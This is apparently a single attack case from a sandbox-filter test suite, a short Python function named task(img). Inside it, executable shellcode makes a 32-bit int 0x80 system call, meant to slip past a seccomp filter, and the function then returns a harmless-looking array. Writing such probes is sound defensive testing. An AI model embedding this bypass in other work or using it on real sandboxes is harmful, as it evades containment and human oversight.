# attack: foreign_architecture | class: process | expect: crash,error,exit,ok | success-signal: SIG returned: a 32-bit system call escaped the filter
import ctypes, mmap, platform
import numpy as np


def task(img):
    if platform.machine() != "x86_64":
        return img
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(
        bytes.fromhex("b8 27 00 00 00 53 31 db cd 80 5b c3".replace(" ", ""))
    )  # int 0x80: mkdir by 32-bit number
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    return np.arange(1, 10).reshape(1, 9)
